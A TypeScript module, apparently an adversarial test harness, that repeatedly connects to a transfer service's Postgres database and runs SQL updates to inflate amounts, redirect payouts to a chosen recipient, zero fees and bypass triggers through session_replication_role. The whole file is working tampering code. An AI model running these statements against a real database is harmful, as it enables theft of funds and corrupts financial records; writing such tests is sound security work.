import { setTimeout as sleep } from 'node:timers/promises';
import pg from 'pg';
import type { Address } from 'viem';

const EVERY_MS = 50;

// Raises an amount once. Raised again and again, it would exceed the vault's funds, and nothing would pay it.
const RAISED = 'amount * 50';
const NOT_RAISED = 'amount < 10::numeric ^ 17';

/** Statements that would move money to a recipient if the service trusted its rows. `$1` is the recipient. */
const THEFTS: readonly string[] = [
  `update transfers set receive_amount = receive_${RAISED} where lower(recipient) = lower($1) and state in ('seen', 'confirmed') and receive_${NOT_RAISED}`,
  `update transfers set state = 'confirmed', settled_hash = null, settled_amount = null where lower(recipient) = lower($1) and state = 'delivered'`,
  `update deposits set amount = ${RAISED}, target = $1 where lower(target) = lower($1) and ${NOT_RAISED}`,
  `update fee_schedules set gas_fee = 0, fee_bps = 0, fee_floor = 0 where $1 <> ''`,
  `update obligations set recipient = $1, amount = ${RAISED} where lower(recipient) = lower($1) and ${NOT_RAISED}`,
  `update chains set head = head + 100000 where $1 <> ''`,
];

async function plunderOnce(url: string, recipient: Address): Promise<void> {
  const client = new pg.Client({ connectionString: url });
  client.on('error', () => {});
  await client.connect();
  try {
    await client.query('set default_transaction_read_only = off').catch(() => {});
    // Only an administrator may skip the triggers that keep rows from changing.
    await client.query('set session_replication_role = replica').catch(() => {});
    for (const statement of THEFTS) await client.query(statement, [recipient]).catch(() => {});
  } finally {
    await client.end();
  }
}

/** Keeps running every statement until `isStopped`. The database may refuse them or be down. */
export async function plunder(url: string, recipient: Address, isStopped: () => boolean): Promise<void> {
  while (!isStopped()) {
    await plunderOnce(url, recipient).catch(() => {});
    await sleep(EVERY_MS);
  }
}
